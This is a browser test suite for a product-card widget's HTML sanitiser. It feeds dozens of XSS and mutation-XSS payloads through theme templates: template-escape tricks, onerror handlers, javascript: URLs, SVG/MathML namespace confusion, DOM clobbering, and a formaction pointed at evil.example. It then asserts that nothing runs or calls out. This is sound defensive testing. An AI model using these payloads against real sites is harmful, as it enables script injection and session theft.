// A widget's cards attacked from the theme's markup: every card must
// come out as the rules of core/sanitize/markupRules.ts make it, checked here by a walk of
// the drawn widget that does not use the sanitiser's own selectors or name tests (a
// parity check against sanitizeNodes cannot see a rule that both stopped applying); as
// the card parsed on its own (dist/vitrine.mjs's sanitizeNodes); and as the server makes
// it (dist/server.mjs's sanitizeMarkup, which the browser resumes from). Widgets are 100
// cards where only the 57th is hostile, and five cards where the 2nd and 3rd are. Nothing
// may run, call out or leave the widget.
import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { launchChromium } from './chromium';
import { MXSS_PAYLOADS } from './mxssPayloads';
import { MARKUP_PAYLOADS } from './embed/markupPayloads';
import { XSS_PAYLOADS } from './embed/xssPayloads';
import type * as ServerApi from '../../src/server/index';

const { sanitizeMarkup } = (await import('../../dist/server.mjs' as string)) as typeof ServerApi;

/** A hostile card's markup that tries to end a `<template>` around the card. */
const END_TAGS = [
  '</TEMPLATE><img src="x" onerror="__pwned(901)">',
  '</TeMpLaTe>after',
  '</template >after',
  '</template/x>after',
  '</template\t\n>after',
  '</template foo="bar">after',
  '<img alt="</template>">after',
  "<img alt='</template><img src=x onerror=__pwned(902)>'>",
  '<img alt=</template>>after',
  '<!-- </template> -->after',
  '<!-- </template><img src=x onerror=__pwned(903)> -->',
  '<svg><![CDATA[</template><img src=x onerror=__pwned(904)>]]></svg>after',
  '<svg><desc><![CDATA[</template>]]></desc></svg>',
  '<textarea></template><img src=x onerror=__pwned(905)></textarea>',
  '<title></template></title>',
  '<noscript></template><img src=x onerror=__pwned(906)></noscript>',
  '<select><template><option>in select</option>',
  '<select><template>',
  '<svg><template><b>bold',
  '<svg><template><img src=x onerror=__pwned(907)>',
  '<math><template><mi>x',
  '<table><template><tr><td>cell',
  '<template><svg><template>',
  '<template id="0.5.1">forged</template>',
  '<div id="0.5.1"></div>',
  '<template data-card="KEY.1"></template>',
];

/** Tree-construction tricks with what the card leaves open. */
const OPEN = [
  '<a href="/x">one<a href="/y">two',
  '<a href="/x"><div>block in link',
  '<b><i><u><s>four open',
  '<b><p>para</b>after',
  '<nobr><nobr><nobr>',
  '<table>',
  '<table><tr>',
  '<table><b>fostered bold',
  '<table><img src="x" onerror="__pwned(908)">',
  '<table><caption><b>',
  '<table><colgroup>',
  '<select>',
  '<select><option>one<optgroup>',
  '<select><b>in select',
  '<select><svg><b>',
  '<svg>',
  '<svg><desc>',
  '<svg><foreignObject>',
  '<svg><title><b>',
  '<math>',
  '<math><mi>',
  '<math><annotation-xml encoding="text/html">',
  '<html lang="x" onload="__pwned(909)">',
  '<body onload="__pwned(910)">',
  '<head><title>t',
  '<frameset onload="__pwned(911)"><frame src="javascript:__pwned(912)">',
  '<plaintext>',
  '<textarea>',
  '<title>',
  '<xmp>',
  '<noscript>',
  '<noembed>',
  '<noframes>',
  '<style>',
  '<iframe srcdoc="<script>parent.__pwned(913)</script>">',
  '<iframe srcdoc="&lt;img src=x onerror=parent.__pwned(914)&gt;"></iframe>',
  '<li>item',
  '<dd>desc<dt>term',
  '<ul><li>a<li>b',
  '<button>open button',
  '<button type="submit">submit',
  '<input type="image" src="x">',
  '<input form="theirs" formaction="https://evil.example/x">',
  '<a href="java&#x09;script:__pwned(915)">tab</a>',
  '<a href=" javascript:__pwned(916)">space</a>',
  '<img srcset="x 1x, javascript:__pwned(917) 2x">',
  '<svg><a xlink:href="javascript:__pwned(918)"><text>x</text></a></svg>',
  '<svg><a href="javascript:__pwned(919)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" to="javascript:__pwned(920)"/></svg>',
  '<svg><set attributeName="href" to="javascript:__pwned(921)"/></svg>',
  '<svg><script>__pwned(922)</script></svg>',
  '<svg><style>*{}</style></svg>',
  '<svg><foreignobject><img src=x onerror=__pwned(923)></foreignobject></svg>',
  '<SVG><FOREIGNOBJECT><img src=x onerror=__pwned(924)></FOREIGNOBJECT></SVG>',
  '<svg><ForeignObject><b>kept?</b></ForeignObject></svg>',
  '<svg><math><mi>x</mi></math></svg>',
  '<div id="localName">l</div><div id="getAttribute">g</div>',
  '<img name="getAttribute"><img name="attributes"><img name="childNodes"><img name="content"><img name="createTreeWalker">',
  '<input name="localName"><input name="attributes">',
  '<a id="content"></a><a id="childNodes"></a><a id="id"></a>',
  '<img id="vitrine">',
  '<!--',
  '<!-- open comment',
  '<img alt="open value',
  "<img alt='open value",
];

/**
 * The form element pointer and the parser's depth limit: parser state that a card parsed
 * in any other context (one parse for all the cards, each in a wrapper) would see
 * differently from a card parsed on its own and from the server.
 */
const FORM_SPAN = '<form><span></form><img src="/after-form.png" alt="after the form"><b>after the form</b>';
const FORM_P = '<form><p></form><b>after the form</b>';
const FORM_DIV = '<form><div></form><b>after the form</b>';
const FORM_IN_TABLE = '<table><form></table><form><b>inside the second form</b></form>';
const deep = (n: number) => '<div class="d">'.repeat(n) + '<i class="deepest">deep</i>';

const CASES = [...END_TAGS, ...OPEN, ...MXSS_PAYLOADS, ...MARKUP_PAYLOADS, ...XSS_PAYLOADS].filter((html) => !html.includes('{{'));

let browser: Browser;
let page: Page;
const outside: string[] = [];
const dialogs: string[] = [];
const server = createServer((req, res) => {
  const path = new URL(req.url!, 'http://x').pathname;
  if (path.startsWith('/dist/')) return res.writeHead(200, { 'Content-Type': path.endsWith('.css') ? 'text/css' : 'text/javascript' }).end(readFileSync('.' + path));
  if (path != '/') return res.writeHead(404).end();
  res
    .writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' })
    .end('<!doctype html><html lang="en"><head><meta charset="utf-8"></head><body><form id="merchant" action="/cart"><input name="q" value="kept"></form><div id="root"></div><p id="after">after</p></body></html>');
});

beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  browser = await launchChromium();
  page = await browser.newPage();
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  // Anything the markup asks for that is not the page's own (an attacker's host, a javascript: URL).
  page.on('request', (request) => {
    if (!request.url().startsWith(origin + '/')) outside.push(request.url());
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(origin + '/');
  await page.evaluate(() => {
    const ran: unknown[] = ((window as unknown as { __ran: unknown[] }).__ran = []);
    (window as unknown as { __pwned: (n: unknown) => void }).__pwned = (n) => ran.push(n);
  });
  await page.addScriptTag({ type: 'module', content: `import * as v from '/dist/vitrine.mjs'; window.__vitrine = v;` });
  await page.waitForFunction(() => '__vitrine' in window);
}, 60_000);
afterAll(async () => {
  await browser?.close();
  server.closeAllConnections();
  server.close();
});

interface Outcome {
  html: string;
  error?: string;
  /** Each cell's markup as drawn, and the same card sanitised on its own. */
  cells: string[];
  alone: string[];
  /** Each card's template output, for the server's sanitiser. */
  rendered: string[];
  /** Cards showing another product's name, or not their own. */
  mixed: number[];
  /** What breaks a rule of markupRules.ts, found by a walk of the drawn widget. */
  broken: string[];
  page: string;
}

/**
 * Draws one widget per case, `count` cards with the case's markup on the cards at
 * `hostile`, and reads it back. The markup sits in a section only those products open.
 */
function renderAll(cases: string[], count: number, hostile: number[]): Promise<Outcome[]> {
  return page.evaluate(
    ({ cases, count, hostile }) => {
      const v = (window as unknown as { __vitrine: any }).__vitrine;
      const products = Array.from({ length: count }, (_, i) => ({
        name: `Product ${i}#`,
        sku: `S${i}`,
        price: '10.00',
        currentPageUrl: `/p/${i}`,
        ...(hostile.includes(i) ? { variantName: 'hostile' } : {}),
      }));
      // The rules, as markupRules.ts states them, written out again as plain lookups.
      const dropped = 'script iframe frame frameset object embed base meta link animate set noscript template form math foreignobject style xmp noembed noframes plaintext'.split(' ');
      const badUrl = (value: string) => /^([^/?#]*?):/.test(value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '')) && !/^https?:/i.test(value.replace(/[\u0000-\u0020\u007f-\u009f]/g, ''));
      const urlNames = ['href', 'src', 'action', 'xlink:href', 'poster', 'background', 'cite', 'data', 'ping'];
      const walk = (cell: Element, broken: string[]) => {
        for (const el of cell.querySelectorAll('*')) {
          const name = el.localName.toLowerCase();
          if (dropped.includes(name) || el.namespaceURI == 'http://www.w3.org/1998/Math/MathML') broken.push(`<${el.localName}> kept`);
          if (['li', 'dd', 'dt'].includes(name)) {
            let p = el.parentElement;
            while (p && p != cell && !['ul', 'ol', 'menu', 'dl'].includes(p.localName)) p = p.parentElement;
            if (!p || p == cell) broken.push(`<${name}> outside a list of its own`);
          }
          if (name == 'button' && el.getAttribute('type') != 'button') broken.push('button not type=button');
          for (const attr of el.getAttributeNames()) {
            const value = el.getAttribute(attr)!;
            const lower = attr.toLowerCase();
            if (/^(on|form)/.test(lower) || lower == 'srcdoc') broken.push(`${attr} kept`);
            if (lower == 'type' && /^(submit|reset|image)$/i.test(value)) broken.push(`type=${value} kept`);
            if (urlNames.includes(lower) && badUrl(value)) broken.push(`${attr}="${value}" kept`);
            if (lower == 'srcset' && value.split(',').some((part) => badUrl(part.trim().split(/\s+/)[0]))) broken.push(`srcset="${value}" kept`);
            if ((lower == 'id' || lower == 'name') && (value in clean.contentDocument! || value in clean.contentWindow! || value in HTMLFormElement.prototype))
              broken.push(`${attr}="${value}" kept`);
          }
        }
      };
      // A document and window of the same kind with nothing drawn in them: the page's own
      // now have the widget's ids and names as properties.
      const clean = document.createElement('iframe');
      document.documentElement.append(clean);
      // A `<selectedcontent>` holds the browser's copy of its select's chosen option (a
      // customizable select), copied from nodes already sanitised and walked above, and
      // filled at different moments by different Chromium versions (as it is parsed, or
      // once in the page); the server leaves it empty. The copy is left out on every side.
      const drawn = (cell: Element) => {
        const copy = cell.cloneNode(true) as Element;
        copy.querySelectorAll('selectedcontent').forEach((mirror) => mirror.replaceChildren());
        return copy.innerHTML;
      };
      const serialise = (fragment: DocumentFragment) => {
        const holder = document.createElement('li');
        holder.append(fragment);
        return drawn(holder);
      };
      const outcomes = cases.map((html, n) => {
        const htmlTemplate = `<span class="name">{{product_name}}</span>{{#variant_name}}${html}{{/variant_name}}<i class="sku">{{product_sku}}</i>`;
        const theme = { id: 'a' + n, themeId: 'a' + n, name: 'a' + n, displayType: 'matrix', htmlTemplate, cssTemplate: null, jsTemplate: null };
        const root = document.createElement('div');
        root.id = 'root';
        document.getElementById('root')!.replaceWith(root);
        const result = v.mountWidget(root, { envelope: { widgetName: 'Attack', products, customValues: {} }, layout: 'matrix', theme, locale: 'en-US', currency: 'USD' });
        const cells = [...root.querySelectorAll(':scope .vitrine__grid > .vitrine__cell')];
        const broken: string[] = [];
        for (const cell of cells) walk(cell, broken);
        const mixed = cells.flatMap((cell, i) => {
          const text = cell.textContent ?? '';
          return products.every((p, j) => text.includes(p.name) == (i == j)) ? [] : [i];
        });
        const after = root.nextSibling;
        root.remove();
        const rendered: string[] = result.ok ? result.view.products.map((p: object) => v.renderTemplate(htmlTemplate, result.view, p)) : [];
        const alone = rendered.map((markup) => serialise(v.sanitizeNodes(markup, document)));
        document.body.insertBefore(root, after);
        const merchant = document.getElementById('merchant') as HTMLFormElement;
        return {
          html,
          error: result.ok ? undefined : result.error,
          cells: cells.map(drawn),
          alone,
          rendered,
          mixed: cells.length == count ? mixed : [-1],
          broken,
          page:
            [...document.body.children].map((el) => `${el.localName}#${el.id}`).join(' ') +
            ` ${merchant.elements.length}:${(merchant.elements[0] as HTMLInputElement)?.value}:${document.getElementById('after')!.textContent}`,
        };
      });
      clean.remove();
      return outcomes;
    },
    { cases, count, hostile },
  );
}

const pageShape = 'form#merchant div#root p#after 1:kept:after';

describe(`100 cards, the 57th hostile: ${CASES.length} markups`, () => {
  let outcomes: Outcome[];
  beforeAll(async () => {
    outcomes = await renderAll(CASES, 100, [56]);
  }, 240_000);

  it('every rule of markupRules.ts holds on every drawn card (a walk of its own, not the sanitiser’s selectors)', () => {
    expect(outcomes.filter((o) => o.error || o.broken.length).map((o) => [o.html, o.error, o.broken])).toEqual([]);
  });

  it('every card shows its own product and no other', () => {
    expect(outcomes.filter((o) => o.mixed.length).map((o) => [o.html, o.mixed])).toEqual([]);
  });

  it('the 99 other cards are each the card on its own, and the hostile one too', () => {
    const differing = outcomes.filter((o) => o.cells.length != 100 || o.cells.some((cell, i) => cell != o.alone[i]));
    expect(differing.map((o) => o.html)).toEqual([]);
  });

  it('the hostile card is what the server draws for it (the tree the browser resumes), wherever sanitizeNodes is', () => {
    // Only where the card on its own matches the server: a card the two parse in different
    // contexts (a <tr>: a template in the browser, an li on the server) is left out.
    let compared = 0;
    const differing = outcomes.flatMap((o) => {
      let server: string;
      try {
        server = sanitizeMarkup(o.rendered[56], 'li');
      } catch {
        return []; // refused on the server: the slot falls back to the browser
      }
      if (o.alone[56] != server) return [];
      compared++;
      return o.cells[56] != server ? [[o.html, o.cells[56], server]] : [];
    });
    expect(differing).toEqual([]);
    // Most cases are compared (the rest are refused by the server or differed before).
    expect(compared).toBeGreaterThan(CASES.length / 2);
  });

  it('nothing runs, nothing is asked of another host, no dialog, the page keeps its shape', async () => {
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { __ran: unknown[] }).__ran)).toEqual([]);
    expect(outside).toEqual([]);
    expect(dialogs).toEqual([]);
    expect([...new Set(outcomes.map((o) => o.page))]).toEqual([pageShape]);
  });
});

describe('cards that render differently per product: some parse alone, some together', () => {
  it('a widget of five with the 2nd and 3rd hostile keeps every rule and every card apart', async () => {
    const outcomes = await renderAll(CASES, 5, [1, 2]);
    expect(outcomes.filter((o) => o.error || o.broken.length).map((o) => [o.html, o.broken])).toEqual([]);
    expect(outcomes.filter((o) => o.mixed.length).map((o) => o.html)).toEqual([]);
    expect(outcomes.filter((o) => o.cells.some((cell, i) => cell != o.alone[i])).map((o) => o.html)).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __ran: unknown[] }).__ran)).toEqual([]);
  }, 120_000);

  it('a product name that tries to end its wrapper, under {{ }} and {{{ }}}, stays text', async () => {
    const outcome = await page.evaluate(() => {
      const v = (window as unknown as { __vitrine: any }).__vitrine;
      const name = '</template><img src=x onerror=__pwned(990)><template id="0.5.2">';
      const products = [0, 1, 2].map((i) => ({ name: i == 1 ? name : `Product ${i}`, sku: `S${i}`, price: '1.00', currentPageUrl: `/p/${i}` }));
      const theme = { id: 'n', themeId: 'n', name: 'n', displayType: 'matrix', htmlTemplate: '<b title="{{product_name}}">{{{product_name}}}</b>{{&product_name}}', cssTemplate: null, jsTemplate: null };
      const root = document.createElement('div');
      root.id = 'root';
      document.getElementById('root')!.replaceWith(root);
      v.mountWidget(root, { envelope: { widgetName: 'Names', products, customValues: {} }, layout: 'matrix', theme, locale: 'en-US', currency: 'USD' });
      const cell = root.querySelectorAll('.vitrine__cell')[1];
      return { elements: [...cell.querySelectorAll('*')].map((el) => el.localName), text: cell.textContent, title: cell.querySelector('b')?.title };
    });
    expect(outcome).toEqual({ elements: ['b'], text: '</template><img src=x onerror=__pwned(990)><template id="0.5.2">'.repeat(2), title: '</template><img src=x onerror=__pwned(990)><template id="0.5.2">' });
  });
});

describe('parser state a card has on its own: the form element pointer and the depth limit', () => {
  const cases = [FORM_SPAN, FORM_P, FORM_DIV, FORM_IN_TABLE, deep(509), deep(510), deep(511), deep(3000)];
  let outcomes: Outcome[];
  beforeAll(async () => {
    outcomes = await renderAll(cases, 5, [1, 2]);
  }, 60_000);
  /** The hostile cards (2nd and 3rd) as drawn, beside each on its own. */
  const hostile = (n: number) => {
    expect(outcomes[n].cells.slice(1, 3)).toEqual(outcomes[n].alone.slice(1, 3));
  };
  /** The 2nd card as drawn, beside the server's card for the same product. */
  const server = (n: number) => {
    expect(outcomes[n].cells[1]).toEqual(sanitizeMarkup(outcomes[n].rendered[1], 'li'));
  };

  it('the rules hold, no card shows another’s product, and the cards around them are as on their own', async () => {
    expect(outcomes.map((o) => [o.error, o.broken, o.mixed])).toEqual(cases.map(() => [undefined, [], []]));
    for (const o of outcomes) expect([o.cells[0], o.cells[3], o.cells[4]]).toEqual([o.alone[0], o.alone[3], o.alone[4]]);
    expect(await page.evaluate(() => (window as unknown as { __ran: unknown[] }).__ran)).toEqual([]);
  });

  // A card parsed on its own has no <template> open around it, so `<form>` sets the form
  // element pointer and `</form>` only takes the form off the stack: an open <span> stays
  // open, what follows goes into it, inside the form, and is dropped with the form. Inside
  // a wrapper <template> (all cards in one parse), `</form>` would close the span and the
  // form and draw the image and "after the form". The server (parse5) drops them too.
  it('`<form><span></form>` then markup: drawn as on its own', () => hostile(0));
  it('`<form><span></form>` then markup: drawn as the server draws it', () => server(0));

  // The other way round: on its own, `</form>` closes the <p> and "after the form" follows
  // the form and is drawn; inside a wrapper `</form>` would be ignored (Chromium), the text
  // would go into the <p> inside the form and be dropped with it.
  it('`<form><p></form>` then markup: drawn as on its own', () => hostile(1));
  it('`<form><p></form>` then markup: drawn as the server draws it', () => server(1));

  it('`<form><div></form>` then markup: drawn as on its own and as the server draws it', () => {
    hostile(2);
    server(2);
  });

  // On its own, `<table><form>` inserts an empty form in the table and sets the pointer, so
  // the second `<form>` tag is ignored and "inside the second form" is drawn (the server
  // too). Inside a wrapper the pointer is never set, the second form is made, and the
  // sanitiser would drop it with its text.
  it('`<table><form></table><form>…`: drawn as on its own', () => hostile(3));
  it('`<table><form></table><form>…`: drawn as the server draws it', () => server(3));

  // Chromium's parser stops nesting at 512 open elements and attaches deeper ones beside
  // their parent. A wrapper would be one more open element, so a card nested 511 deep or
  // more would be flattened one level earlier than on its own (511 levels kept, not 512).
  it('a card nested 511 deep: drawn as on its own', () => hostile(6));
  it('a card nested 3,000 deep: drawn as on its own', () => hostile(7));

  it('a card nested 509 or 510 deep is drawn as on its own', () => {
    hostile(4);
    hostile(5);
  });
});

/** Pieces of markup a card is made of in the widgets below: tags of every insertion mode, foreign content, raw text, broken tokens. */
const PIECES = [
  ...['a href="/x"', 'b', 'i', 'em', 'nobr', 'font color="red"', 'p', 'div', 'span', 'h1', 'pre', 'listing', 'center', 'dialog', 'details', 'ruby', 'rt', 'dd', 'dl', 'li', 'ul', 'button', 'table', 'caption', 'colgroup', 'col', 'tbody', 'tr', 'td', 'th', 'select', 'option', 'optgroup', 'svg', 'math', 'mtext', 'mi', 'desc', 'foreignObject', 'annotation-xml encoding="text/html"', 'mglyph', 'malignmark', 'body', 'html', 'head', 'frameset', 'frame', 'object', 'embed', 'image', 'hr', 'br', 'input type="hidden"', 'keygen', 'wbr', 'track', 'base', 'link', 'meta'].flatMap((tag) => [`<${tag}>`, `</${tag.split(' ')[0]}>`]),
  'text',
  '&amp',
  ']]>',
  '-->',
];
/** Pieces that leave the rest of the card unparsed or moved: rarer, so most cards keep their other pieces. */
const BREAKERS = ['<!--', '<!', '<?', '</', '<', '"', "'", '=', '<img alt="', '<![CDATA[', '<textarea>', '<title>', '<style>', '<xmp>', '<noscript>', '<iframe>', '<plaintext>', '<noembed>', '<noframes>', '<script>', '<template>'];

describe('random cards from a seeded mix of markup pieces (the form element pointer left out: see above)', () => {
  it('every card is the card on its own, in 3,000 widgets of five whose cards differ', async () => {
    const differing = await page.evaluate(
      ({ pieces, breakers, widgets }) => {
        const v = (window as unknown as { __vitrine: any }).__vitrine;
        let seed = 20261128;
        const random = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
        const pick = (list: string[]) => list[Math.floor(random() * list.length)];
        const markup = () => Array.from({ length: 1 + Math.floor(random() * 6) }, () => pick(random() < 0.03 ? breakers : pieces)).join('');
        // A customizable select's `<selectedcontent>` copy is left out (see above).
        const drawn = (cell: Element) => {
          const copy = cell.cloneNode(true) as Element;
          copy.querySelectorAll('selectedcontent').forEach((mirror) => mirror.replaceChildren());
          return copy.innerHTML;
        };
        const serialise = (fragment: DocumentFragment) => {
          const holder = document.createElement('li');
          holder.append(fragment);
          return drawn(holder);
        };
        // Four sections on fields only some products have: cards differ, some parse together, some do not.
        const fields = ['variant_name', 'product_imageUrl', 'product_currentPageUrl', 'product_discountedPrice'];
        const found: string[] = [];
        for (let w = 0; w < widgets; w++) {
          const htmlTemplate = '<span>{{product_name}}</span>' + fields.map((f) => `{{#${f}}}${markup()}{{/${f}}}`).join('') + '<i>{{product_sku}}</i>';
          const products = Array.from({ length: 5 }, (_, i) => ({
            name: `P${i}`,
            sku: `S${i}`,
            price: '10',
            ...(random() < 0.4 ? { variantName: 'v' } : {}),
            ...(random() < 0.4 ? { smallImage: '/i.jpg' } : {}),
            ...(random() < 0.4 ? { currentPageUrl: '/p' } : {}),
            ...(random() < 0.4 ? { discountedPrice: '5' } : {}),
          }));
          const theme = { id: 'r', themeId: 'r' + w, name: 'r', displayType: 'matrix', htmlTemplate, cssTemplate: null, jsTemplate: null };
          const root = document.createElement('div');
          const result = v.mountWidget(root, { envelope: { widgetName: 'R', products, customValues: {} }, layout: 'matrix', theme, locale: 'en-US', currency: 'USD' });
          if (!result.ok) {
            found.push(`${htmlTemplate}: ${result.error}`);
            continue;
          }
          const cells = [...root.querySelectorAll('.vitrine__cell')].map(drawn);
          result.view.products.forEach((p: object, i: number) => {
            if (cells[i] != serialise(v.sanitizeNodes(v.renderTemplate(htmlTemplate, result.view, p), document))) found.push(`${htmlTemplate} (card ${i})`);
          });
        }
        return found;
      },
      { pieces: PIECES, breakers: BREAKERS, widgets: 3000 },
    );
    expect(differing).toEqual([]);
  }, 120_000);
});
